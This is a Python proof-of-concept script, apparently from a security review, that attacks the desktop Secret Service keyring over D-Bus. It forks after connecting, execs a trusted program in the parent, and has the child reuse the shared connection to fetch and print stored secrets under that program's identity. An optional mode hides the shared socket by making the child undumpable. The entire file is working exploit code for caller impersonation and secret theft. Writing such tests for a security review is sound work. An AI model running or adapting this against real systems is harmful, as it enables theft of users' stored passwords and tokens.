#!/usr/bin/python3
"""Review 55's attacker: a bus connection whose connecting process then runs another program.

  exec_after_connect.py [--read-first | --inherit-hidden] KEY=VALUE PROGRAM ARGS...
      Connects to the session bus (Hello) (with --read-first, asks for the secrets once, as
      itself, before going on: the service has then looked at who it is; with --inherit-hidden,
      lets the connection's descriptor through the exec, so that PROGRAM holds it, and the child
      makes itself undumpable, so that the service cannot see that it holds it too), forks, and the
      connecting process execs PROGRAM with
      its output thrown away; the child, holding the same connection, waits for the exec and then
      asks the Secret Service for the secrets of the items KEY=VALUE finds (GetSecrets, plain
      session). Prints each secret, or the error's name; kills PROGRAM before it exits.
The service asks the bus who made the connection (GetConnectionCredentials) and relays that
process to the broker: PROGRAM, not this script that sends every call.
"""
import ctypes
import os
import sys
import time

from jeepney import DBusAddress, HeaderFields, MessageType, new_method_call
from jeepney.io.blocking import open_dbus_connection


def get_secrets(conn, service, key, value):
    found = conn.send_and_get_reply(new_method_call(service, 'SearchItems', 'a{ss}', ({key: value},))).body
    session = conn.send_and_get_reply(new_method_call(service, 'OpenSession', 'sv', ('plain', ('s', '')))).body[1]
    return conn.send_and_get_reply(new_method_call(service, 'GetSecrets', 'aoo', (found[0] + found[1], session)),
                                   timeout=90)


def main():
    args = sys.argv[1:]
    read_first = args[0] == '--read-first'
    inherit_hidden = args[0] == '--inherit-hidden'
    if read_first or inherit_hidden:
        args = args[1:]
    key, value = args[0].split('=', 1)
    program = args[1:]
    conn = open_dbus_connection(bus='SESSION')
    service = DBusAddress('/org/freedesktop/secrets', bus_name='org.freedesktop.secrets',
                          interface='org.freedesktop.Secret.Service')
    if read_first:
        get_secrets(conn, service, key, value)
    if inherit_hidden:
        os.set_inheritable(conn.sock.fileno(), True)
    ready_r, ready_w = os.pipe()  # both close-on-exec: EOF in the child once the parent exec'd
    pid = os.fork()
    if pid:
        os.close(ready_r)
        null = os.open('/dev/null', os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(program[0], program)
    os.close(ready_w)
    if inherit_hidden:
        PR_SET_DUMPABLE = 4
        ctypes.CDLL(None, use_errno=True).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    os.read(ready_r, 1)
    parent = os.getppid()
    for _ in range(100):
        if os.readlink(f'/proc/{parent}/exe') == os.path.realpath(program[0]):
            break
        time.sleep(0.05)
    try:
        reply = get_secrets(conn, service, key, value)
        if reply.header.message_type == MessageType.error:
            print(reply.header.fields.get(HeaderFields.error_name, 'error'))  # ERROR_NAME
            return 1
        for _, (_, _, secret, _) in reply.body[0].items():
            print(bytes(secret).decode(errors='replace'))
        return 0
    finally:
        os.kill(parent, 9)


sys.exit(main())
